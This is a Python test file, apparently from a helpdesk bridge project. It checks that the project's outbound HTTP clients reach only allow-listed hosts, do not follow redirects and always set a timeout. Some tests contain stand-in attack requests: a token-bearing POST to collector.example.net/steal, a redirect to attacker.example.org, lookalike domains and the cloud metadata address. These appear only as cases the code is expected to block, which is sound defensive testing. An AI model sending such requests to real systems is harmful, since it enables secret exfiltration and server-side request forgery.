"""Outgoing calls reach only the hosts the configuration names, never follow a redirect on their own,
and always have a timeout."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from sav_bridge.config import load_settings
from sav_bridge.egress import AllowList, EgressRefused, outbound_client
from sav_bridge.errors import PermanentError
from sav_bridge.runtime import Runtime
from tests.harness import gateway_env

SOURCES = Path(__file__).resolve().parents[2]


class Recorder:
    """A network that answers 200 (or a redirect to `redirect_to`) and remembers what reached it."""

    def __init__(self, redirect_to: str | None = None) -> None:
        self.hosts: list[str] = []
        self.redirect_to = redirect_to

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.hosts.append(request.url.host)
        if self.redirect_to and request.url.path == "/file":
            return httpx.Response(302, headers={"location": self.redirect_to})
        return httpx.Response(200, json={"ok": True})


def settings(**extra: str):  # type: ignore[no-untyped-def]
    return load_settings(None, gateway_env("sqlite:///:memory:", **extra))


async def test_a_call_to_a_host_the_configuration_does_not_name_never_leaves() -> None:
    network = Recorder()
    async with outbound_client(settings(), httpx.MockTransport(network)) as client:
        assert (await client.get("https://api.x.com/2/users/me")).status_code == 200
        assert (await client.get("https://mabanque.zendesk.com/api/v2/users/me.json")).status_code == 200
        with pytest.raises(EgressRefused) as refused:
            await client.post("https://collector.example.net/steal?token=s3cr3t-t0ken", json={"a": 1})
    assert network.hosts == ["api.x.com", "mabanque.zendesk.com"]
    message = str(refused.value)
    assert "collector.example.net" in message and "s3cr3t" not in message and "/steal" not in message
    assert isinstance(refused.value, PermanentError)  # a job that tries it goes to a person, not round again


async def test_a_redirect_is_not_followed_and_a_download_that_follows_one_cannot_leave_the_list() -> None:
    network = Recorder(redirect_to="https://attacker.example.org/file")
    async with outbound_client(settings(), httpx.MockTransport(network)) as client:
        answer = await client.get("https://mabanque.zendesk.com/file")
        assert answer.status_code == 302  # handed back, not followed
        with pytest.raises(EgressRefused, match=r"attacker\.example\.org"):
            await client.get("https://mabanque.zendesk.com/file", follow_redirects=True)
    assert network.hosts == ["mabanque.zendesk.com", "mabanque.zendesk.com"]


async def test_every_client_has_a_timeout_and_no_redirects() -> None:
    async with outbound_client(settings(), timeout=7.5) as client:
        assert client.timeout == httpx.Timeout(7.5)
        assert client.follow_redirects is False


def test_the_list_is_what_the_configuration_names() -> None:
    allowed = AllowList.from_settings(
        settings(
            SAV_BRIDGE_CONSOLE__JWT__ISSUER="https://idp.mabanque.fr",
            SAV_BRIDGE_CONSOLE__JWT__AUDIENCE="sav-bridge-console",
            SAV_BRIDGE_CONSOLE__JWT__JWKS_URL="https://keys.mabanque.fr/jwks.json",
            SAV_BRIDGE_CONSOLE__OIDC__ISSUER="https://login.mabanque.fr",
            SAV_BRIDGE_CONSOLE__OIDC__CLIENT_ID="console",
            SAV_BRIDGE_SECRETS_KEY="Z2F0ZXdheS1zZWNyZXRzLWtleS1mb3ItdGVzdHMtMzI=",
        )
    )
    for host in ("api.x.com", "pbs.twimg.com", "video.twimg.com", "ton.twitter.com", "mabanque.zendesk.com",
                 "keys.mabanque.fr", "login.mabanque.fr", "p13.zdusercontent.com"):  # fmt: skip
        assert allowed.allows(host), host
    for host in ("zdusercontent.com.evil.net", "evilzdusercontent.com", "zendesk.com", "api.x.com.evil.net",
                 "169.254.169.254", "localhost", "idp.mabanque.fr"):  # fmt: skip
        assert not allowed.allows(host), host
    allowed.admit("https://oauth2.provider.example/token")
    assert allowed.allows("oauth2.provider.example")


def test_a_plugin_names_the_hosts_its_vendor_answers_from() -> None:
    salesforce = AllowList.from_settings(
        load_settings(
            None,
            {
                **gateway_env("sqlite:///:memory:"),
                "SAV_BRIDGE_HELPDESK": "salesforce",
                "SAV_BRIDGE_SALESFORCE__CONSUMER_KEY": "3MVG9-key",
                "SAV_BRIDGE_SALESFORCE__USERNAME": "api@mabanque.fr",
                "SAV_BRIDGE_SALESFORCE__PRIVATE_KEY": "-----BEGIN PRIVATE KEY-----\nAA\n-----END PRIVATE KEY-----",
                "SAV_BRIDGE_SALESFORCE__ORGANIZATION_ID": "00D000000000001",
                "SAV_BRIDGE_SALESFORCE__WEBHOOK_SECRET": "a-webhook-secret-of-16+",
            },
        )
    )
    assert salesforce.allows("login.salesforce.com")  # salesforce.login_url's default
    assert salesforce.allows("mabanque.my.salesforce.com")  # the instance_url its token endpoint gives
    assert not salesforce.allows("mabanque.zendesk.com")


async def test_the_gateway_refuses_a_host_outside_its_list(sqlite_url: str) -> None:
    network = Recorder()
    runtime = await Runtime.start(settings(SAV_BRIDGE_DATABASE_URL=sqlite_url), httpx.MockTransport(network))
    try:
        with pytest.raises(EgressRefused):
            await runtime.http.get("http://169.254.169.254/latest/meta-data/")
        assert runtime.http.timeout.read is not None and runtime.http.follow_redirects is False
    finally:
        await runtime.close()
    assert network.hosts == []


# -- every client, every call ------------------------------------------------------------------------------
#: Where an httpx client may be built other than `outbound_client`: the fakes (they call the gateway back
#: through its ASGI app), the demo's driver (it calls the local gateway) and the plugin contract suite.
CLIENT_BUILDERS = ("sav_bridge/egress.py", "sav_bridge/sandbox/", "sav_bridge/demo.py", "sav_bridge/testing/")
#: The file downloads that follow a vendor's redirect (each hop still checked by the list).
FOLLOWING = {"sav_bridge/channels/x/media.py", "adapters/zendesk/sav_bridge_zendesk/helpdesk.py"}


def modules() -> Iterator[tuple[str, ast.AST]]:
    for path in [
        *(SOURCES / "sav_bridge").rglob("*.py"),
        *(SOURCES / "adapters").glob("*/sav_bridge_*/**/*.py"),
    ]:
        yield str(path.relative_to(SOURCES)), ast.parse(path.read_text(encoding="utf-8"))


def _calls(tree: ast.AST) -> Iterator[ast.Call]:
    yield from (node for node in ast.walk(tree) if isinstance(node, ast.Call))


def _called(call: ast.Call) -> str:
    return ast.unparse(call.func)


def test_no_client_is_built_but_by_outbound_client() -> None:
    built = [
        f"{name}:{call.lineno}"
        for name, tree in modules()
        if not name.startswith(CLIENT_BUILDERS)
        for call in _calls(tree)
        if _called(call) in {"httpx.AsyncClient", "httpx.Client", "AsyncClient"}
    ]
    assert built == []


def test_no_call_drops_its_timeout_and_only_downloads_follow_redirects() -> None:
    found = []
    for name, tree in modules():
        for call in _calls(tree):
            for keyword in call.keywords:
                value = keyword.value
                if keyword.arg == "timeout" and isinstance(value, ast.Constant) and value.value is None:
                    found.append(f"{name}:{call.lineno}: timeout=None")
                following = not (isinstance(value, ast.Constant) and value.value is False)
                if keyword.arg == "follow_redirects" and following and name not in FOLLOWING:
                    found.append(f"{name}:{call.lineno}: follow_redirects")
    assert found == []
